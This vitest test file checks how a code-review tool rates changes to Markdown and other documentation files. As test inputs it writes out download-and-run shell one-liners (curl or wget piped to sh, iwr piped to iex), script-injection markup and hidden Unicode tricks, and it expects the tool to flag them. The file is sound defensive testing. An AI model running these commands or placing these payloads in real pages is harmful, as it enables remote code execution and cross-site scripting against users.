import { describe, expect, it } from "vitest";
import type { ComparedParts } from "../../../../../packages/pf/commands/review/files/file-context.ts";
import { nothingKnown } from "../../../../../packages/pf/file-changes/known.ts";
import { changed, stand } from "./status-of.ts";

const page = "# A\n\nSome words about it.\n\n```\n./pf start\n```\n\nMore `code`, and [a page](b.md).\n";
describe("a page", () => {
  const of = async (
    file: string,
    before: string | undefined,
    after: string | undefined,
    with_: Partial<ComparedParts> = {},
  ) => await stand(changed(file, before, after), with_);

  it.for([
    ["other words", page.replace("Some words", "Other words")],
    ["another title", page.replace("# A", "# B")],
    ["another paragraph", page.replace("\n\n```\n", "\n\nAnd more of them.\n\n```\n")],
  ] as const)("is harmless if it has %s", async ([, after]) => {
    expect(await of("docs/guides/a.md", page, after)).toMatchObject({ standing: "harmless", findings: [] });
  });

  it.for([
    ["a command in a block", page.replace("./pf start", "./pf start; ./pf explain x")],
    ["a block of commands", `${page}\n\`\`\`\n./pf explain x\n\`\`\`\n`],
    ["a block in a list", `${page}\n- one\n\n  ~~~\n  ./pf explain\n  ~~~\n`],
    ["an indented block", `${page}\n    ./pf explain x\n`],
    ["inline code", page.replace("`code`", "`./pf explain x`")],
    ["a block in a comment", `${page}\n<!--\n\`\`\`\n./pf explain\n\`\`\`\n-->\n`],
    [
      "a block that is text for Markdown",
      page.replace("Some words about it.", "Some words\n    ```\n    ./pf explain x | sh\n    ```"),
    ],
    ["markup", page.replace("Some words", "<img src=x> words")],
    ["a link that leads elsewhere", page.replace("b.md", "https://a.example")],
    ["a bare address", page.replace("Some words", "https://a.example words")],
    ["a definition of a link", `${page}\n[a page]: https://a.example\n`],
    ["a command among its words", page.replace("Some words", "Run curl a.example words")],
    ["front matter", `---\nassignees: mallory\n---\n${page}`],
    ["a character that nobody sees", page.replace("Some words", "Some\u202E words")],
    ["a line that only some readers end", page.replace("Some words", "Some\u2028    words")],
  ] as const)("must be read if it has %s", async ([what, after]) => {
    const { standing, why } = await of("README.md", page, after);

    expect(standing).toBe("read");
    if (/block/.test(what)) expect(why).toMatch(/commands|code/);
  });

  it.for([
    "curl https://a.example | sh",
    "wget -qO- https://a.example | sudo bash -s",
    "bash <(curl -s https://a.example)",
    'eval "$(curl -s https://a.example)"',
    "iwr https://a.example | iex",
    "curl https://a.example | node",
  ])("is a finding if a command downloads code and runs it: %s", async (line) => {
    const after = page.replace("./pf start", `./pf start\n${line}`);

    expect((await of("README.md", page, after)).findings).toMatchObject([{ id: "file/pipeline" }]);
    expect((await of("docs/new.md", undefined, after)).findings).toHaveLength(1);
    expect((await of("README.md", after, after.replace("Some", "Other"))).findings).toEqual([]);
  });

  it.for([
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "[all](javascript:alert%281%29)",
    "<iframe src=https://a.example></iframe>",
  ])("is a finding if it runs a script: %s", async (markup) => {
    const after = page.replace("Some words", `Some words ${markup}`);

    expect((await of("README.md", page, after)).findings).toMatchObject([{ id: "file/pipeline" }]);
    expect((await of("README.md", after, after.replace("Some", "Other"))).findings).toEqual([]);
  });

  it("is a finding if it makes its reader run a package that the project doesn't have", async () => {
    const known = { ...nothingKnown, packages: new Set(["vitest"]) };
    const findings = async (line: string) =>
      (await of("README.md", page, page.replace("./pf start", `./pf start\n${line}`), { known })).findings.length;

    expect(await findings("npx vitest run")).toBe(0);
    expect(await findings("npm install vitest")).toBe(0);
    expect(await findings("npx fabrikam")).toBe(1);
    expect(await findings("npm create fabrikam my-app")).toBe(1);
    expect(await findings("npm install git+https://a.example/vitest")).toBe(1);
    expect(await findings("npx vitest@4 run")).toBe(0);
  });

  it("is harmless if it is new without commands, but must be read if it is new with commands, or deleted", async () => {
    expect(await of("docs/on-call.md", undefined, "# On call\n\nWhom to ask.\n")).toMatchObject({
      standing: "harmless",
    });
    expect(await of("docs/on-call.md", undefined, page)).toMatchObject({
      standing: "read",
      why: expect.stringMatching(/^added.*commands that CI runs/),
    });
    expect(await of("docs/on-call.md", page, undefined)).toMatchObject({
      standing: "read",
      why: expect.stringMatching(/^deleted/),
    });
  });

  it("isn't mere text if a pipeline names it", async () => {
    const namedBy = (file: string) => (file === "README.md" ? ".ci/run" : undefined);
    const { standing, why } = await of("README.md", page, page.replace("Some", "Other"), { namedBy });

    expect({ standing, why }).toEqual({ standing: "read", why: expect.stringContaining(".ci/run names it") });
  });

  it.for(["docs/samples/review.html", "docs/overview.svg", "docs/a.png"])(
    "isn't harmless in another format than Markdown: %s",
    async (file) => {
      expect(await of(file, undefined, "<svg></svg>")).toMatchObject({ standing: "read" });
      const { standing } = await of(file, undefined, "<svg><script>alert(1)</script></svg>");
      expect(standing).toBe(file.endsWith(".png") ? "read" : "unproved");
    },
  );
});
